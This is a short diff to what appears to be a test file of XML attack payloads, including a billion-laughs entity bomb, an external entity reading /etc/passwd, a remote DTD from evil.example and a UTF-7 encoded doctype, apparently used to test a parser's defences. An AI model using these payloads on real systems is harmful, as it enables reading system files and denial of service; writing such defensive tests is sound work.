@@ -13,7 +13,7 @@ LAUGHS = (
     + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
     + "]><a>&a9;</a>"
 )
-FETCHING = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
+FETCHING = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:/etc/passwd">]><a>&b;</a>'
 REMOTE = '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'
 UTF_7 = "+ADwAIQ-DOCTYPE a+AD4APA-a/+AD4-"
 
